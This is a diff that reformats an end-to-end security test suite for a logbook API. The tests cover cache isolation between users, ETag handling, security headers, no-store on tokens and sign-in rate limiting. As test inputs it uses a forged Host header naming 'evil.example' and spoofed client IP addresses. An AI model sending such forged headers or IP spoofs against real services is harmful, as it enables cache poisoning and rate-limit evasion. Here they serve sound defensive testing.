@@ -936,30 +605,13 @@ describe('security (e2e)', () => {
             expect(find(res.body)).toMatchObject(liked(v));
           },
         ],
-        [
-          'my_logbooks',
-          MINE,
-          true,
-          (v, res) =>
-            expect(idsOf(res.body)).toEqual(v === carol.id ? carolOwn : danOwn),
-        ],
-        [
-          'photo list',
-          PHOTOS,
-          true,
-          (v, res) =>
-            expect(idsOf(res.body.results)).toEqual(
-              v === carol.id ? carolPhotos : danPhotos,
-            ),
-        ],
+        ['my_logbooks', MINE, true, (v, res) => expect(idsOf(res.body)).toEqual(v === carol.id ? carolOwn : danOwn)],
+        ['photo list', PHOTOS, true, (v, res) => expect(idsOf(res.body.results)).toEqual(v === carol.id ? carolPhotos : danPhotos)],
         [
           'photo detail',
           `${PHOTOS}${carolPhotos[0]}/`,
           true,
-          (v, res) =>
-            expect([res.status, res.body.id]).toEqual(
-              v === carol.id ? [200, carolPhotos[0]] : [404, undefined],
-            ),
+          (v, res) => expect([res.status, res.body.id]).toEqual(v === carol.id ? [200, carolPhotos[0]] : [404, undefined]),
         ],
       ];
       let requests = 0;
@@ -972,10 +624,7 @@ describe('security (e2e)', () => {
             requests++;
             check(id, res);
             // Each viewer's first request misses its own entry, never hits someone else's.
-            if (res.status === 200)
-              expect(res.headers['x-cache'], `${round} ${name} as ${who}`).toBe(
-                round,
-              );
+            if (res.status === 200) expect(res.headers['x-cache'], `${round} ${name} as ${who}`).toBe(round);
             if (round === 'MISS') etags.set(`${name}/${who}`, res.headers.etag);
             else expect(res.headers.etag).toBe(etags.get(`${name}/${who}`));
           }
@@ -987,33 +636,18 @@ describe('security (e2e)', () => {
       const burst = views.flatMap(([, url, isPrivate, check]) =>
         viewers
           .filter(([, , id]) => !isPrivate || id !== 0)
-          .flatMap(([, h, id]) =>
-            [1, 2].map(async () => check(id, await api.http().get(url).set(h))),
-          ),
+          .flatMap(([, h, id]) => [1, 2].map(async () => check(id, await api.http().get(url).set(h)))),
       );
       await Promise.all(burst);
       requests += burst.length;
 
       // A conditional request with another user's ETag gets the caller's own body, not a 304.
       const carolMine = await call('get', MINE)(bearer(carol)).expect(200);
-      const danMine = await call(
-        'get',
-        MINE,
-      )(bearer(dan))
-        .set('If-None-Match', carolMine.headers.etag)
-        .expect(200);
+      const danMine = await call('get', MINE)(bearer(dan)).set('If-None-Match', carolMine.headers.etag).expect(200);
       expect(idsOf(danMine.body)).toEqual(danOwn);
-      await call(
-        'get',
-        MINE,
-      )(bearer(carol))
-        .set('If-None-Match', carolMine.headers.etag)
-        .expect(304);
+      await call('get', MINE)(bearer(carol)).set('If-None-Match', carolMine.headers.etag).expect(304);
       // A forged Host only ever poisons the forger's own entry.
-      const forged = await call(
-        'get',
-        `${LOGBOOKS}?page_size=1`,
-      )({ Host: 'evil.example' }).expect(200);
+      const forged = await call('get', `${LOGBOOKS}?page_size=1`)({ Host: 'evil.example' }).expect(200);
       expect(forged.body.next).toMatch(/^http:\/\/evil\.example\//);
       const honest = await call('get', `${LOGBOOKS}?page_size=1`)().expect(200);
       expect(honest.body.next).toMatch(/^http:\/\/127\.0\.0\.1:\d+\//);
@@ -1027,23 +661,10 @@ describe('security (e2e)', () => {
 
   describe('security headers', () => {
     it('sends the baseline headers on API answers, errors, docs and media files', async () => {
-      const logbook = await multipart(
-        'post',
-        LOGBOOKS,
-        logbookFields(),
-        'dive_image',
-      )(bearer(alice)).expect(201);
+      const logbook = await multipart('post', LOGBOOKS, logbookFields(), 'dive_image')(bearer(alice)).expect(201);
       const answers: Array<[string, Send, number]> = [
-        [
-          'JSON (cache miss)',
-          call('get', `${LOGBOOKS}${logbook.body.id}/`),
-          200,
-        ],
-        [
-          'JSON (cache hit)',
-          call('get', `${LOGBOOKS}${logbook.body.id}/`),
-          200,
-        ],
+        ['JSON (cache miss)', call('get', `${LOGBOOKS}${logbook.body.id}/`), 200],
+        ['JSON (cache hit)', call('get', `${LOGBOOKS}${logbook.body.id}/`), 200],
         ['JSON (me)', (h = {}) => call('get', ME)(bearer(alice)).set(h), 200],
         ['401', call('get', ME), 401],
         ['400', call('post', SIGNUP, {}), 400],
@@ -1058,28 +679,16 @@ describe('security (e2e)', () => {
         seen.set(what, res);
         const h = res.headers;
         const csp = String(h['content-security-policy'] ?? '');
-        if (res.status !== status)
-          missing.push(`${what}: status ${res.status}`);
-        if (h['x-content-type-options'] !== 'nosniff')
-          missing.push(`${what}: nosniff`);
-        if (
-          h['x-frame-options'] !== 'DENY' ||
-          !csp.includes("frame-ancestors 'none'")
-        )
-          missing.push(`${what}: framing`);
-        if (h['referrer-policy'] !== 'no-referrer')
-          missing.push(`${what}: referrer-policy`);
-        if (h['x-powered-by'] !== undefined || h.server !== undefined)
-          missing.push(`${what}: reveals its stack`);
+        if (res.status !== status) missing.push(`${what}: status ${res.status}`);
+        if (h['x-content-type-options'] !== 'nosniff') missing.push(`${what}: nosniff`);
+        if (h['x-frame-options'] !== 'DENY' || !csp.includes("frame-ancestors 'none'")) missing.push(`${what}: framing`);
+        if (h['referrer-policy'] !== 'no-referrer') missing.push(`${what}: referrer-policy`);
+        if (h['x-powered-by'] !== undefined || h.server !== undefined) missing.push(`${what}: reveals its stack`);
         // A JSON answer is never a document: nothing may load or run in it.
-        if (what !== 'API docs' && !csp.includes("default-src 'none'"))
-          missing.push(`${what}: default-src 'none'`);
+        if (what !== 'API docs' && !csp.includes("default-src 'none'")) missing.push(`${what}: default-src 'none'`);
       }
       const media = seen.get('media file')!.headers;
-      if (
-        media['content-type'] !== 'image/png' ||
-        !media['content-security-policy']?.includes('sandbox')
-      )
+      if (media['content-type'] !== 'image/png' || !media['content-security-policy']?.includes('sandbox'))
         missing.push('media: type/sandbox');
       // Tokens and the caller's own record must not be kept by any cache.
       const signin = await call('post', SIGNIN, {
@@ -1094,8 +703,7 @@ describe('security (e2e)', () => {
         ['token refresh', refreshed],
         ['me', seen.get('JSON (me)')!],
       ] as const) {
-        if (res.headers['cache-control'] !== 'no-store')
-          missing.push(`${what}: Cache-Control: no-store`);
+        if (res.headers['cache-control'] !== 'no-store') missing.push(`${what}: Cache-Control: no-store`);
       }
       console.log(
         `headers: ${answers.length + 2} responses checked for nosniff, framing, referrer, CSP, no-store, stack disclosure: ${missing.length} missing`,
@@ -1120,11 +728,7 @@ describe('security (e2e)', () => {
       ];
       const redis = api.app.get<RedisClient>(REDIS_CLIENT);
       const keys = api.app.get(CacheKeys);
-      const counters = LOCAL_IPS.flatMap((ip) =>
-        ['signin-fail-ip', 'signin-ip'].map(
-          (name) => `${keys.rateLimit(name)}:${ip}`,
-        ),
-      );
+      const counters = LOCAL_IPS.flatMap((ip) => ['signin-fail-ip', 'signin-ip'].map((name) => `${keys.rateLimit(name)}:${ip}`));
       // Counted from zero, whatever failures an earlier file of this run left on this address.
       await redis.del(counters);
       try {
@@ -1133,11 +737,7 @@ describe('security (e2e)', () => {
             email: uniqueEmail('nobody'),
             password: 'wrong-password',
           };
-          expect(
-            (await call('post', SIGNIN, wrong)(spoofs[i % spoofs.length]))
-              .status,
-            `failure ${i + 1}`,
-          ).toBe(401);
+          expect((await call('post', SIGNIN, wrong)(spoofs[i % spoofs.length])).status, `failure ${i + 1}`).toBe(401);
         }
         // Eve has no failure of her own and claims yet another address: the connection's count decides.
         const locked = await call('post', SIGNIN, {
